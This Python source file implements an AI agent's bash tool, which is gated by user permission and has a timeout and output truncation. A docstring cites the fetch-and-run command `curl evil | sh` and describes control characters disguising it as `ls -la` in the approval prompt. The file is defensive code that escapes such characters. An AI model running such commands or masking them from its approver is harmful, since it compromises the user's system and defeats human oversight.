"""The bash tool: runs only with the person's permission, with a timeout and a cut output."""

from __future__ import annotations

import contextlib
import os
import signal
import subprocess
import tempfile
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path
from typing import Any

from vybe.agent.files import cut_output

DEFAULT_TIMEOUT = 120
MAX_TIMEOUT = 600
REFUSED = (
    "bash is not allowed in this session: the person has not granted it. Do the work with "
    "read, write and edit, or ask the person to allow it (vybe chat --allow-bash)."
)


@dataclass
class BashPermission:
    """Granted up front (``--allow-bash``), or asked for each command at the prompt."""

    allowed: bool = False
    ask: Callable[[str], bool] | None = None

    def permits(self, command: str) -> bool:
        if self.allowed:
            return True
        return self.ask is not None and self.ask(command)


def shown(command: str) -> str:
    """The command as the approval prompt prints it: control and format characters (\\r,
    ESC, bidi overrides) escaped, so what the person approves is what will run (a raw \\r
    or ESC sequence let `curl evil | sh` show as `ls -la`)."""
    import unicodedata

    out = []
    for char in command:
        if unicodedata.category(char) in ("Cc", "Cf", "Zl", "Zp"):
            escaped = repr(char)[1:-1]
            out.append(escaped if escaped != char else f"\\u{ord(char):04x}")
        else:
            out.append(char)
    return "".join(out)


def run(workdir: Path, command: str, timeout: Any = DEFAULT_TIMEOUT) -> tuple[str, bool]:
    """The command's output (stdout and stderr as they interleaved) and exit status; True when
    it failed. The command runs in its own session: on timeout the whole group is killed and
    what it printed so far is kept. Its output goes to a file, not a pipe, so a job it leaves
    running in the background does not hold the call open."""
    seconds = min(max(int(timeout or DEFAULT_TIMEOUT), 1), MAX_TIMEOUT)
    with tempfile.TemporaryFile() as out:
        proc = subprocess.Popen(
            ["bash", "-c", command],
            cwd=workdir,
            stdin=subprocess.DEVNULL,
            stdout=out,
            stderr=subprocess.STDOUT,
            start_new_session=True,
        )
        try:
            code: int | None = proc.wait(timeout=seconds)
        except subprocess.TimeoutExpired:
            with contextlib.suppress(ProcessLookupError):
                os.killpg(proc.pid, signal.SIGKILL)
            proc.wait()
            code = None
        out.seek(0)
        output = out.read().decode("utf-8", errors="replace").strip("\n")
    text = cut_output(output, "narrow the command to see the rest")
    if code is None:
        return f"{text}\n[timed out after {seconds} s]".lstrip("\n"), True
    return f"{text}\n[exit status {code}]".lstrip("\n"), code != 0
